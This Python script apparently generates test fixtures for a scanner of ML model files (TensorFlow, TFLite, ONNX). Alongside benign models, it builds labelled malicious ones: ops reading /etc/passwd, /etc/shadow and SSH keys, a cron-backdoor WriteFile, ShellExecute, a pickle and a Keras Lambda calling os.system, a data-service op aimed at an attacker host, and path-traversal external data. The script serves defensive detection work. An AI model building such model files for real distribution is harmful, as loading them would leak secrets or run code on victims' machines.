# ------------------------------------------------------------------------------------------------ output helpers

manifests = {}


def write(fmt, rel, data, label, cls, verdict, rules=(), formats=(), note='', manifest=True):
    path = os.path.join(ROOT, fmt, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(path, 'wb') as f:
        f.write(data)
    if not manifest:
        return path
    entry = {
        'path': rel,
        'label': label,
        'class': cls,
        'expect': {'verdict': verdict, 'rules': list(rules), 'formats': list(formats)},
        'note': note,
        'sha256': hashlib.sha256(data).hexdigest(),
    }
    manifests.setdefault(fmt, []).append(entry)
    return path


def record(fmt, rel, label, cls, verdict, rules=(), formats=(), note=''):
    """Adds a manifest entry for a file written by a library (not through write())."""
    path = os.path.join(ROOT, fmt, rel)
    with open(path, 'rb') as f:
        digest = hashlib.sha256(f.read()).hexdigest()
    manifests.setdefault(fmt, []).append(
        {'path': rel, 'label': label, 'class': cls, 'expect': {'verdict': verdict, 'rules': list(rules), 'formats': list(formats)}, 'note': note, 'sha256': digest}
    )


ABOUT = {
    'tensorflow': 'TensorFlow SavedModel, frozen GraphDef, MetaGraphDef, keras_metadata.pb and TensorBundle files, written by scripts/gen-graph-fixtures.py following the public .proto files (TensorFlow is not installed here). Benign files reproduce what tf.saved_model.save writes for a Keras MLP, including the standard saver functions; malicious ones add host-facing ops.',
    'tflite': 'TensorFlow Lite FlatBuffers written by scripts/gen-graph-fixtures.py following tensorflow/lite/schema/schema.fbs: builtin-only models, Flex and custom ops, metadata.',
    'onnx': 'ONNX models written by the onnx package (onnx.helper, onnx external data) and torch.onnx.export; malicious variants set hostile field values with onnx.helper (scripts/gen-graph-fixtures.py). The symlink-escape case is created at test time (test/formats/onnx).',
}

PBTXT_GRAPH = """node {
  name: "x"
  op: "Placeholder"
  attr {
    key: "dtype"
    value {
      type: DT_FLOAT
    }
  }
  attr {
    key: "shape"
    value {
      shape {
        dim {
          size: -1
        }
        dim {
          size: 4
        }
      }
    }
  }
}
node {
  name: "w"
  op: "Const"
  attr {
    key: "dtype"
    value {
      type: DT_FLOAT
    }
  }
  attr {
    key: "value"
    value {
      tensor {
        dtype: DT_FLOAT
        tensor_shape {
          dim {
            size: 4
          }
          dim {
            size: 2
          }
        }
        tensor_content: "\\000\\000\\200?\\000\\000\\000@\\000\\000@@\\000\\000\\200@\\000\\000\\240@\\000\\000\\300@\\000\\000\\340@\\000\\000\\000A"
      }
    }
  }
}
node {
  name: "MatMul"
  op: "MatMul"
  input: "x"
  input: "w"
  attr {
    key: "T"
    value {
      type: DT_FLOAT
    }
  }
}
node {
  name: "y"
  op: "Softmax"
  input: "MatMul"
  attr {
    key: "T"
    value {
      type: DT_FLOAT
    }
  }
}
versions {
  producer: 1645
  min_consumer: 12
}
"""

PBTXT_SAVED_MODEL = """saved_model_schema_version: 1
meta_graphs {
  meta_info_def {
    tags: "serve"
    tensorflow_version: "2.15.0"
  }
  graph_def {
    node {
      name: "path"
      op: "Const"
      attr {
        key: "dtype"
        value {
          type: DT_STRING
        }
      }
      attr {
        key: "value"
        value {
          tensor {
            dtype: DT_STRING
            tensor_shape {
            }
            string_val: "/etc/passwd"
          }
        }
      }
    }
    node {
      name: "leak"
      op: "ReadFile"
      input: "path"
    }
    library {
      function {
        signature {
          name: "__inference_serve_12"
          input_arg {
            name: "x"
            type: DT_FLOAT
          }
          output_arg {
            name: "identity"
            type: DT_FLOAT
          }
          is_stateful: true
        }
        node_def {
          name: "hook"
          op: "EagerPyFunc"
          input: "x"
          attr {
            key: "Tin"
            value {
              list {
                type: DT_FLOAT
              }
            }
          }
          attr {
            key: "token"
            value {
              s: "pyfunc_3"
            }
          }
        }
        ret {
          key: "identity"
          value: "hook:output:0"
        }
      }
    }
    versions {
      producer: 1645
    }
  }
  signature_def {
    key: "serving_default"
    value {
      method_name: "tensorflow/serving/predict"
    }
  }
}
"""


# ------------------------------------------------------------------------------------------------ TensorFlow fixtures


def gen_tensorflow():
    fmt = 'tensorflow'
    rng = np.random.RandomState(0)
    weights = {k: rng.standard_normal(s).astype('<f4') for k, s in zip(CKPT_KEYS[:4], VAR_SHAPES)}
    index, data = tensor_bundle(weights)
    d = 'benign/keras_mlp_savedmodel'
    write(fmt, f'{d}/saved_model.pb', tf2_saved_model(), 'benign', 'tf-savedmodel', 'clean', formats=['tf-savedmodel'], note='TF2 SavedModel of a Keras MLP with the standard saver functions (SaveV2/RestoreV2/MergeV2Checkpoints)')
    write(fmt, f'{d}/keras_metadata.pb', keras_metadata(KERAS_SEQ_CONFIG), 'benign', 'keras-metadata', 'clean', formats=['keras-metadata'])
    write(fmt, f'{d}/fingerprint.pb', fingerprint(), 'benign', 'tf-fingerprint', 'clean', formats=['tf-fingerprint'])
    write(fmt, f'{d}/variables/variables.index', index, 'benign', 'tf-tensorbundle', 'clean', formats=['tf-tensorbundle-index'])
    write(fmt, f'{d}/variables/variables.data-00000-of-00001', data, 'benign', 'tf-tensorbundle', 'clean', formats=['tf-tensorbundle-data'])

    # TF 2.0-2.4 layout: Keras metadata inside the object graph instead of keras_metadata.pb
    write(fmt, 'benign/keras_objgraph_savedmodel/saved_model.pb', tf2_saved_model(keras_meta=keras_root_metadata(KERAS_SEQ_CONFIG)), 'benign', 'tf-savedmodel', 'clean', formats=['tf-savedmodel'], note='Keras metadata stored in SavedUserObject.metadata')

    # TF1 frozen inference graph (Conv → BiasAdd → Relu → MaxPool → MatMul → Softmax) with constant weights
    conv_w = rng.standard_normal((3, 3, 1, 4)).astype('<f4')
    fc_w = rng.standard_normal((4 * 4 * 4, 10)).astype('<f4')
    frozen = graph_def(
        [
            node('input', 'Placeholder', attrs={'dtype': av_type(DT_FLOAT), 'shape': av_shape([-1, 8, 8, 1])}),
            node('conv/weights', 'Const', attrs={'dtype': av_type(DT_FLOAT), 'value': tensor_float(conv_w)}),
            node('conv/Conv2D', 'Conv2D', ['input', 'conv/weights'], {'T': av_type(DT_FLOAT), 'data_format': av_s('NHWC'), 'padding': av_s('SAME'), 'strides': fm(1, fb(3, packed([1, 1, 1, 1])))}),
            node('conv/bias', 'Const', attrs={'dtype': av_type(DT_FLOAT), 'value': tensor_float(np.zeros(4))}),
            node('conv/BiasAdd', 'BiasAdd', ['conv/Conv2D', 'conv/bias'], {'T': av_type(DT_FLOAT)}),
            node('conv/Relu', 'Relu', ['conv/BiasAdd'], {'T': av_type(DT_FLOAT)}),
            node('pool', 'MaxPool', ['conv/Relu'], {'T': av_type(DT_FLOAT), 'ksize': fm(1, fb(3, packed([1, 2, 2, 1]))), 'padding': av_s('VALID'), 'strides': fm(1, fb(3, packed([1, 2, 2, 1])))}),
            node('flatten/shape', 'Const', attrs={'dtype': av_type(DT_INT32), 'value': tensor_int([-1, 64], [2])}),
            node('flatten', 'Reshape', ['pool', 'flatten/shape'], {'T': av_type(DT_FLOAT)}),
            node('fc/weights', 'Const', attrs={'dtype': av_type(DT_FLOAT), 'value': tensor_float(fc_w)}),
            node('fc/MatMul', 'MatMul', ['flatten', 'fc/weights'], {'T': av_type(DT_FLOAT)}),
            node('output', 'Softmax', ['fc/MatMul'], {'T': av_type(DT_FLOAT)}),
        ],
        producer=27,
    )
    write(fmt, 'benign/frozen_cnn.pb', frozen, 'benign', 'tf-graphdef', 'clean', formats=['tf-graphdef'], note='TF1 frozen GraphDef')

    # TF1 checkpoint MetaGraphDef with the classic save/ scope (SaveV2 / RestoreV2 on save/Const)
    v_nodes = [
        node('w', 'VariableV2', attrs={'dtype': av_type(DT_FLOAT), 'shape': av_shape([4, 3]), 'container': av_s(''), 'shared_name': av_s('')}),
        node('w/read', 'Identity', ['w'], {'T': av_type(DT_FLOAT)}),
        node('x', 'Placeholder', attrs={'dtype': av_type(DT_FLOAT), 'shape': av_shape([-1, 4])}),
        node('MatMul', 'MatMul', ['x', 'w/read'], {'T': av_type(DT_FLOAT)}),
        const_str('save/filename/input', 'model'),
        node('save/filename', 'PlaceholderWithDefault', ['save/filename/input'], {'dtype': av_type(DT_STRING), 'shape': av_shape([])}),
        node('save/Const', 'PlaceholderWithDefault', ['save/filename'], {'dtype': av_type(DT_STRING), 'shape': av_shape([])}),
        node('save/SaveV2/tensor_names', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string(['w'], [1])}),
        node('save/SaveV2/shape_and_slices', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string([''], [1])}),
        node('save/SaveV2', 'SaveV2', ['save/Const', 'save/SaveV2/tensor_names', 'save/SaveV2/shape_and_slices', 'w'], {'dtypes': av_list_type([DT_FLOAT])}),
        node('save/control_dependency', 'Identity', ['save/Const', '^save/SaveV2'], {'T': av_type(DT_STRING)}),
        node('save/RestoreV2/tensor_names', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string(['w'], [1])}),
        node('save/RestoreV2/shape_and_slices', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string([''], [1])}),
        node('save/RestoreV2', 'RestoreV2', ['save/Const', 'save/RestoreV2/tensor_names', 'save/RestoreV2/shape_and_slices'], {'dtypes': av_list_type([DT_FLOAT])}),
        node('save/Assign', 'Assign', ['w', 'save/RestoreV2'], {'T': av_type(DT_FLOAT), 'use_locking': av_b(True), 'validate_shape': av_b(True)}),
        node('save/restore_all', 'NoOp', ['^save/Assign']),
    ]
    tf1_saver = fb(1, 'save/Const:0') + fb(2, 'save/control_dependency:0') + fb(3, 'save/restore_all') + fv(4, 5) + ff32(6, 10000.0) + fv(7, 2)
    meta = meta_graph(graph_def(v_nodes, producer=38), ['Assign', 'Const', 'Identity', 'MatMul', 'NoOp', 'Placeholder', 'PlaceholderWithDefault', 'RestoreV2', 'SaveV2', 'VariableV2'], tf1_saver, tags=())
    write(fmt, 'benign/model.ckpt.meta', meta, 'benign', 'tf-metagraph', 'clean', formats=['tf-metagraph'], note='TF1 MetaGraphDef with the save/ scope')

    # Text format (TensorFlow loads saved_model.pbtxt and graph .pbtxt files like the binary ones)
    write(fmt, 'benign/graph.pbtxt', PBTXT_GRAPH, 'benign', 'tf-graphdef-text', 'clean', formats=['tf-graphdef-text'], note='text-format GraphDef')
    write(fmt, 'malicious/pbtxt_savedmodel/saved_model.pbtxt', PBTXT_SAVED_MODEL, 'malicious', 'tf-file-read-op', 'malicious', ['BW-TF-003', 'BW-TF-001'], ['tf-savedmodel-text'], 'text-format SavedModel with ReadFile on a constant path and EagerPyFunc in a function')

    # ---- malicious
    read_main = [const_str('exfil/path', '/etc/passwd'), node('exfil/ReadFile', 'ReadFile', ['exfil/path'])]
    read_fn = [const_str('secret', '/root/.ssh/id_rsa'), node('leak', 'ReadFile', ['secret:output:0'])]
    write(fmt, 'malicious/readfile_savedmodel/saved_model.pb', tf2_saved_model(extra_main=read_main, extra_call=read_fn, extra_ops=['ReadFile']), 'malicious', 'tf-file-read-op', 'malicious', ['BW-TF-003'], ['tf-savedmodel'], 'ReadFile of constant paths in the main graph and in the serving function')
    wr = [const_str('drop/path', '/etc/cron.d/backdoor'), const_str('drop/content', '* * * * * root echo pwned\n'), node('drop', 'WriteFile', ['drop/path:output:0', 'drop/content:output:0'])]
    write(fmt, 'malicious/writefile_savedmodel/saved_model.pb', tf2_saved_model(extra_call=wr, extra_ops=['WriteFile']), 'malicious', 'tf-file-write-op', 'malicious', ['BW-TF-002'], ['tf-savedmodel'], 'WriteFile in the serving function')
    py_main = [node('hook', 'PyFunc', ['serving_default_input_1'], {'Tin': av_list_type([DT_FLOAT]), 'Tout': av_list_type([DT_FLOAT]), 'token': av_s('pyfunc_0')})]
    py_fn = [node('eager_hook', 'EagerPyFunc', ['inputs'], {'Tin': av_list_type([DT_FLOAT]), 'Tout': av_list_type([DT_FLOAT]), 'is_async': av_b(False), 'token': av_s('pyfunc_1')})]
    write(fmt, 'malicious/pyfunc_savedmodel/saved_model.pb', tf2_saved_model(extra_main=py_main, extra_call=py_fn, extra_ops=['PyFunc', 'EagerPyFunc']), 'malicious', 'tf-python-op', 'malicious', ['BW-TF-001'], ['tf-savedmodel'], 'PyFunc in the graph and EagerPyFunc in a function')
    unk = [node('custom', 'MyCompanyFastGelu', ['inputs'], {'T': av_type(DT_FLOAT)})]
    write(fmt, 'malicious/unknown_op_savedmodel/saved_model.pb', tf2_saved_model(extra_call=unk, extra_ops=['MyCompanyFastGelu']), 'malicious', 'tf-unknown-op', 'suspicious', ['BW-TF-010'], ['tf-savedmodel'], 'custom op that needs a native kernel library')
    shell = [const_str('cmd', 'echo pwned'), node('run', 'ShellExecute', ['cmd:output:0'])]
    write(fmt, 'malicious/shell_op_savedmodel/saved_model.pb', tf2_saved_model(extra_call=shell, extra_ops=['ShellExecute']), 'malicious', 'tf-command-op', 'malicious', ['BW-TF-009'], ['tf-savedmodel'])
    ckpt = [
        const_str('steal/prefix', '/tmp/exfil/ckpt'),
        node('steal/names', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string(['x'], [1])}),
        node('steal/slices', 'Const', attrs={'dtype': av_type(DT_STRING), 'value': tensor_string([''], [1])}),
        node('steal/SaveV2', 'SaveV2', ['steal/prefix:output:0', 'steal/names:output:0', 'steal/slices:output:0', 'inputs'], {'dtypes': av_list_type([DT_FLOAT])}),
    ]
    write(fmt, 'malicious/savev2_outside_saver/saved_model.pb', tf2_saved_model(extra_call=ckpt), 'malicious', 'tf-checkpoint-io', 'malicious', ['BW-TF-005'], ['tf-savedmodel'], 'SaveV2 with a constant path in the serving function (not a saver function)')
    vocab = [
        node('table', 'HashTableV2', attrs={'key_dtype': av_type(DT_STRING), 'value_dtype': av_type(9), 'container': av_s(''), 'shared_name': av_s('vocab'), 'use_node_name_sharing': av_b(False)}),
        const_str('vocab_path', '/etc/shadow'),
        node('table/init', 'InitializeTableFromTextFileV2', ['table', 'vocab_path'], {'key_index': av_i(-2), 'value_index': av_i(-1), 'vocab_size': av_i(-1), 'delimiter': av_s('\t')}),
    ]
    write(fmt, 'malicious/asset_traversal_savedmodel/saved_model.pb', tf2_saved_model(extra_main=vocab, assets=[('asset_path:0', '../../../../etc/passwd')], extra_ops=['HashTableV2', 'InitializeTableFromTextFileV2']), 'malicious', 'tf-asset-traversal', 'malicious', ['BW-TF-007'], ['tf-savedmodel'], 'asset file name with ../ and a vocabulary initialiser on an absolute path')
    printer = [node('log', 'PrintV2', ['inputs'], {'end': av_s('\n'), 'output_stream': av_s('file:///tmp/exfil.log')})]
    write(fmt, 'malicious/printv2_file_savedmodel/saved_model.pb', tf2_saved_model(extra_call=printer, extra_ops=['PrintV2']), 'malicious', 'tf-file-write-op', 'malicious', ['BW-TF-002'], ['tf-savedmodel'], 'PrintV2 writing inputs to a file')
    net = [
        const_str('ds/id', 'job'),
        const_str('ds/mode', 'parallel_epochs'),
        const_str('ds/address', 'collector.attacker.example:5050'),
        node('ds', 'DataServiceDatasetV4', ['ds/id:output:0', 'ds/mode:output:0', 'ds/address:output:0'], {'output_types': av_list_type([DT_FLOAT]), 'output_shapes': av_list_shape([[]])}),
    ]
    write(fmt, 'malicious/network_op_savedmodel/saved_model.pb', tf2_saved_model(extra_call=net), 'malicious', 'tf-network-op', 'malicious', ['BW-TF-004'], ['tf-savedmodel'])
    bad_frozen = frozen[:-6] + graph_def([const_str('p', '/etc/hosts'), node('r', 'ReadFile', ['p'])], producer=27)
    write(fmt, 'malicious/frozen_readfile.pb', bad_frozen, 'malicious', 'tf-file-read-op', 'malicious', ['BW-TF-003'], ['tf-graphdef'], 'frozen GraphDef with ReadFile')
    bad_meta = meta_graph(graph_def(v_nodes + [node('cb', 'PyFunc', ['x'], {'token': av_s('pyfunc_7'), 'Tin': av_list_type([DT_FLOAT]), 'Tout': av_list_type([DT_FLOAT])})], producer=38), ['PyFunc'], tf1_saver, tags=())
    write(fmt, 'malicious/pyfunc.ckpt.meta', bad_meta, 'malicious', 'tf-python-op', 'malicious', ['BW-TF-001'], ['tf-metagraph'])
    whole = tf2_saved_model()
    write(fmt, 'malicious/truncated_savedmodel/saved_model.pb', whole[: len(whole) * 2 // 3], 'malicious', 'malformed', 'inconclusive', ['BW-TF-011'], ['tf-savedmodel'], 'truncated SavedModel')

    # keras_metadata.pb with a Lambda layer carrying marshalled bytecode (CVE-2024-3660 shape), judged by the Keras
    # config analysis (analyzeKerasConfig), and the same config in the object graph of a TF 2.0-2.4 SavedModel.
    code = compile("lambda x: __import__('os').system('echo pwned') or x", '<lambda>', 'eval').co_consts[0]
    fn = base64.b64encode(marshal.dumps(code)).decode()
    lambda_cfg = json.loads(json.dumps(KERAS_SEQ_CONFIG))
    lambda_cfg['layers'].insert(2, {'class_name': 'Lambda', 'config': {'name': 'lambda', 'trainable': True, 'dtype': 'float32', 'function': [fn, None, None], 'function_type': 'lambda', 'module': '__main__', 'output_shape': None, 'output_shape_type': 'raw', 'output_shape_module': None, 'arguments': {}}})
    write(fmt, 'malicious/lambda_keras_metadata/keras_metadata.pb', keras_metadata(lambda_cfg), 'malicious', 'keras-lambda', 'malicious', [], ['keras-metadata'], 'Lambda layer with marshalled bytecode; findings come from the Keras config analysis')
    write(fmt, 'malicious/lambda_objgraph_savedmodel/saved_model.pb', tf2_saved_model(keras_meta=keras_root_metadata(lambda_cfg)), 'malicious', 'keras-lambda', 'malicious', [], ['tf-savedmodel'], 'Lambda layer in the Keras metadata of the SavedModel object graph')


# ------------------------------------------------------------------------------------------------ TFLite fixtures


class SystemCall:
    def __reduce__(self):
        return (os.system, ('echo pwned',))



def gen_tflite():
    fmt = 'tflite'
    builtin_codes = [opcode(FULLY_CONNECTED), opcode(RELU), opcode(SOFTMAX)]
    builtin_ops = [(0, [0, 2, 3], [1], None), (1, [1], [4], None), (2, [4], [5], None)]
    meta = [('min_runtime_version', 3)]
    runtime = b'1.14.0' + b'\x00' * 10
    write(fmt, 'benign/mlp.tflite', tflite_model(builtin_codes, builtin_ops, meta, [runtime]), 'benign', 'tflite-builtin', 'clean', formats=['tflite'], note='builtin ops only (FULLY_CONNECTED, RELU, SOFTMAX) with min_runtime_version metadata')
    det = [opcode(FULLY_CONNECTED), opcode(CUSTOM, 'TFLite_Detection_PostProcess')]
    write(fmt, 'benign/detection_postprocess.tflite', tflite_model(det, [(0, [0, 2, 3], [1], None), (1, [1], [5], b'')]), 'benign', 'tflite-builtin-custom', 'clean', formats=['tflite'], note='custom op that ships with the TFLite runtime')
    flex_add = node('add', 'AddV2', ['x', 'y'], {'T': av_type(DT_FLOAT)})
    flex = [opcode(FULLY_CONNECTED), opcode(CUSTOM, 'FlexAddV2')]
    write(fmt, 'benign/flex_addv2.tflite', tflite_model(flex, [(0, [0, 2, 3], [1], None), (1, [1, 1], [5], flex_options('AddV2', flex_add))]), 'benign', 'tflite-flex', 'clean', formats=['tflite'], note='Flex op running the TensorFlow AddV2 kernel')

    custom = [opcode(FULLY_CONNECTED), opcode(CUSTOM, 'MyCustomKernel')]
    write(fmt, 'malicious/custom_op.tflite', tflite_model(custom, [(0, [0, 2, 3], [1], None), (1, [1], [5], b'\x00')]), 'malicious', 'tflite-custom-op', 'suspicious', ['BW-TF-013'], ['tflite'])
    read_nd = node('leak', 'ReadFile', ['filename'])
    flex_read = [opcode(FULLY_CONNECTED), opcode(CUSTOM, 'FlexReadFile')]
    write(fmt, 'malicious/flex_readfile.tflite', tflite_model(flex_read, [(0, [0, 2, 3], [1], None), (1, [1], [5], flex_options('ReadFile', read_nd))]), 'malicious', 'tflite-flex-file-read', 'malicious', ['BW-TF-003'], ['tflite'])
    write_nd = node('drop', 'WriteFile', ['path', 'content'])
    disguised = [opcode(FULLY_CONNECTED), opcode(CUSTOM, 'FlexAddV2')]
    write(fmt, 'malicious/flex_disguised_writefile.tflite', tflite_model(disguised, [(0, [0, 2, 3], [1], None), (1, [1, 1], [5], flex_options('AddV2', write_nd))]), 'malicious', 'tflite-flex-file-write', 'malicious', ['BW-TF-002'], ['tflite'], 'custom_code says FlexAddV2 but the embedded NodeDef runs WriteFile')
    pkl = pickle.dumps(SystemCall(), protocol=4)  # serialising runs nothing; loading would call os.system
    write(fmt, 'malicious/pickle_in_metadata.tflite', tflite_model(builtin_codes, builtin_ops, [('min_runtime_version', 3), ('training_state', 4)], [runtime, pkl]), 'malicious', 'tflite-embedded-pickle', 'malicious', ['BW-TF-016', 'BW-PKL-001'], ['tflite', 'pickle'], 'metadata buffer holding a pickle that calls os.system')
    good = tflite_model(builtin_codes, builtin_ops, meta, [runtime])
    write(fmt, 'malicious/truncated.tflite', good[: len(good) // 3], 'malicious', 'malformed', 'inconclusive', ['BW-TF-011'], ['tflite'], 'truncated FlatBuffer')


# ------------------------------------------------------------------------------------------------ ONNX fixtures


def onnx_bytes(model):
    return model.SerializeToString()


def mlp_model():
    rng = np.random.RandomState(1)
    w1 = numpy_helper.from_array(rng.standard_normal((4, 8)).astype(np.float32), 'w1')
    b1 = numpy_helper.from_array(np.zeros(8, np.float32), 'b1')
    w2 = numpy_helper.from_array(rng.standard_normal((8, 3)).astype(np.float32), 'w2')
    b2 = numpy_helper.from_array(np.zeros(3, np.float32), 'b2')
    nodes = [
        helper.make_node('MatMul', ['x', 'w1'], ['h0'], name='fc1'),
        helper.make_node('Add', ['h0', 'b1'], ['h1'], name='fc1_bias'),
        helper.make_node('Relu', ['h1'], ['h2'], name='relu'),
        helper.make_node('Gemm', ['h2', 'w2', 'b2'], ['logits'], name='fc2'),
        helper.make_node('Softmax', ['logits'], ['y'], name='softmax', axis=1),
    ]
    g = helper.make_graph(nodes, 'mlp', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [1, 4])], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [1, 3])], [w1, b1, w2, b2])
    return helper.make_model(g, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13)])


def gen_onnx():
    fmt = 'onnx'
    rng = np.random.RandomState(2)
    write(fmt, 'benign/mlp.onnx', onnx_bytes(mlp_model()), 'benign', 'onnx-helper', 'clean', formats=['onnx'])

    conv_w = numpy_helper.from_array(rng.standard_normal((4, 1, 3, 3)).astype(np.float32), 'conv_w')
    conv_b = numpy_helper.from_array(np.zeros(4, np.float32), 'conv_b')
    bn = [numpy_helper.from_array(a, n) for a, n in [(np.ones(4, np.float32), 'bn_scale'), (np.zeros(4, np.float32), 'bn_bias'), (np.zeros(4, np.float32), 'bn_mean'), (np.ones(4, np.float32), 'bn_var')]]
    fc_w = numpy_helper.from_array(rng.standard_normal((64, 10)).astype(np.float32), 'fc_w')
    cnn = helper.make_graph(
        [
            helper.make_node('Conv', ['x', 'conv_w', 'conv_b'], ['c'], name='conv', kernel_shape=[3, 3], pads=[1, 1, 1, 1]),
            helper.make_node('BatchNormalization', ['c', 'bn_scale', 'bn_bias', 'bn_mean', 'bn_var'], ['n'], name='bn', epsilon=1e-5),
            helper.make_node('Relu', ['n'], ['r'], name='relu'),
            helper.make_node('MaxPool', ['r'], ['p'], name='pool', kernel_shape=[2, 2], strides=[2, 2]),
            helper.make_node('Flatten', ['p'], ['f'], name='flatten'),
            helper.make_node('MatMul', ['f', 'fc_w'], ['y'], name='fc'),
        ],
        'cnn',
        [helper.make_tensor_value_info('x', TensorProto.FLOAT, [1, 1, 8, 8])],
        [helper.make_tensor_value_info('y', TensorProto.FLOAT, [1, 10])],
        [conv_w, conv_b] + bn + [fc_w],
    )
    write(fmt, 'benign/cnn.onnx', onnx_bytes(helper.make_model(cnn, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13)])), 'benign', 'onnx-helper', 'clean', formats=['onnx'])

    then_g = helper.make_graph([helper.make_node('Relu', ['x'], ['t_out'])], 'then', [], [helper.make_tensor_value_info('t_out', TensorProto.FLOAT, [2])])
    else_g = helper.make_graph([helper.make_node('Neg', ['x'], ['e_out'])], 'else', [], [helper.make_tensor_value_info('e_out', TensorProto.FLOAT, [2])])
    body = helper.make_graph(
        [helper.make_node('Identity', ['cond_in'], ['cond_out']), helper.make_node('Add', ['acc_in', 'x'], ['acc_out'])],
        'body',
        [helper.make_tensor_value_info('iter', TensorProto.INT64, []), helper.make_tensor_value_info('cond_in', TensorProto.BOOL, []), helper.make_tensor_value_info('acc_in', TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info('cond_out', TensorProto.BOOL, []), helper.make_tensor_value_info('acc_out', TensorProto.FLOAT, [2])],
    )
    cf = helper.make_graph(
        [
            helper.make_node('If', ['c'], ['branch'], name='if', then_branch=then_g, else_branch=else_g),
            helper.make_node('Loop', ['trip', 'c', 'branch'], ['looped'], name='loop', body=body),
        ],
        'control_flow',
        [helper.make_tensor_value_info('x', TensorProto.FLOAT, [2]), helper.make_tensor_value_info('c', TensorProto.BOOL, []), helper.make_tensor_value_info('trip', TensorProto.INT64, [])],
        [helper.make_tensor_value_info('looped', TensorProto.FLOAT, [2])],
    )
    write(fmt, 'benign/control_flow.onnx', onnx_bytes(helper.make_model(cf, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13)])), 'benign', 'onnx-helper', 'clean', formats=['onnx'], note='If and Loop subgraphs')

    fn = helper.make_function('custom.fn', 'ScaledRelu', ['X'], ['Y'], [helper.make_node('Relu', ['X'], ['R']), helper.make_node('Mul', ['R', 'R'], ['Y'])], [helper.make_opsetid('', 15)])
    fg = helper.make_graph([helper.make_node('ScaledRelu', ['x'], ['y'], domain='custom.fn')], 'uses_function', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [2])], [helper.make_tensor_value_info('y', TensorProto.FLOAT, [2])])
    fmodel = helper.make_model(fg, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 15), helper.make_opsetid('custom.fn', 1)], functions=[fn])
    write(fmt, 'benign/local_function.onnx', onnx_bytes(fmodel), 'benign', 'onnx-helper', 'clean', formats=['onnx'], note='model-local FunctionProto')

    ext_dir = os.path.join(ROOT, fmt, 'benign', 'external_data')
    shutil.rmtree(ext_dir, ignore_errors=True)
    os.makedirs(ext_dir)
    m = mlp_model()
    onnx.save_model(m, os.path.join(ext_dir, 'model.onnx'), save_as_external_data=True, all_tensors_to_one_file=True, location='weights.bin', size_threshold=0)
    record(fmt, 'benign/external_data/model.onnx', 'benign', 'onnx-external-data', 'clean', formats=['onnx'], note='initializers in the sibling file weights.bin (onnx.save_model)')

    tree = helper.make_node(
        'TreeEnsembleClassifier', ['x'], ['label', 'probabilities'], domain='ai.onnx.ml', name='trees',
        class_ids=[0, 1, 0, 1], class_nodeids=[1, 1, 2, 2], class_treeids=[0, 0, 0, 0], class_weights=[0.9, 0.1, 0.2, 0.8], classlabels_int64s=[0, 1],
        nodes_falsenodeids=[2, 0, 0], nodes_featureids=[0, 0, 0], nodes_hitrates=[1.0, 1.0, 1.0], nodes_missing_value_tracks_true=[0, 0, 0],
        nodes_modes=['BRANCH_LEQ', 'LEAF', 'LEAF'], nodes_nodeids=[0, 1, 2], nodes_treeids=[0, 0, 0], nodes_truenodeids=[1, 0, 0], nodes_values=[0.5, 0.0, 0.0],
        post_transform='NONE',
    )
    tg = helper.make_graph([tree], 'tree', [helper.make_tensor_value_info('x', TensorProto.FLOAT, [1, 2])], [helper.make_tensor_value_info('label', TensorProto.INT64, [1]), helper.make_tensor_value_info('probabilities', TensorProto.FLOAT, [1, 2])])
    write(fmt, 'benign/tree_ensemble.onnx', onnx_bytes(helper.make_model(tg, producer_name='bulwark-fixtures', opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('ai.onnx.ml', 3)])), 'benign', 'onnx-ml', 'clean', formats=['onnx'], note='ai.onnx.ml TreeEnsembleClassifier')

    fused = helper.make_graph(
        [helper.make_node('FusedMatMul', ['a', 'b'], ['y'], domain='com.microsoft', name='fused', alpha=1.0, transA=0, transB=0)],
        'ort_optimized',
        [helper.make_tensor_value_info('a', TensorProto.FLOAT, [2, 2]), helper.make_tensor_value_info('b', TensorProto.FLOAT, [2, 2])],
        [helper.make_tensor_value_info('y', TensorProto.FLOAT, [2, 2])],
    )
    write(fmt, 'benign/ort_contrib_op.onnx', onnx_bytes(helper.make_model(fused, producer_name='onnxruntime.transformers', opset_imports=[helper.make_opsetid('', 13), helper.make_opsetid('com.microsoft', 1)])), 'benign', 'onnx-contrib', 'clean', formats=['onnx'], note='com.microsoft contrib op (ONNX Runtime optimised model)')

    try:
        import torch

        torch.manual_seed(0)

        class Small(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.conv = torch.nn.Conv2d(1, 2, 3)
                self.fc = torch.nn.Linear(2 * 6 * 6, 4)

            def forward(self, x):
                return torch.softmax(self.fc(torch.relu(self.conv(x)).flatten(1)), dim=1)

        buf = io.BytesIO()
        torch.onnx.export(Small(), torch.zeros(1, 1, 8, 8), buf, input_names=['x'], output_names=['y'], opset_version=13)
        write(fmt, 'benign/torch_export.onnx', buf.getvalue(), 'benign', 'torch.onnx.export', 'clean', formats=['onnx'])
    except Exception as e:  # noqa: BLE001 - torch is optional
        print(f'torch.onnx.export not available: {e}', file=sys.stderr)

    # ---- malicious
    def ext_model(location, name='w1'):
        mm = mlp_model()
        t = next(i for i in mm.graph.initializer if i.name == name)
        t.ClearField('raw_data')
        t.data_location = TensorProto.EXTERNAL
        for k, v in [('location', location), ('offset', '0'), ('length', str(4 * 8 * 4))]:
            e = t.external_data.add()
            e.key, e.value = k, v
        return onnx_bytes(mm)

    write(fmt, 'malicious/ext_data_dotdot.onnx', ext_model('../../../../../../etc/passwd'), 'malicious', 'onnx-external-traversal', 'malicious', ['BW-ONNX-002'], ['onnx'], 'CVE-2022-25882')
    write(fmt, 'malicious/ext_data_nested.onnx', ext_model('weights/../../secrets/id_rsa'), 'malicious', 'onnx-external-traversal', 'malicious', ['BW-ONNX-002'], ['onnx'], 'nested subdir/../../ (CVE-2024-27318)')
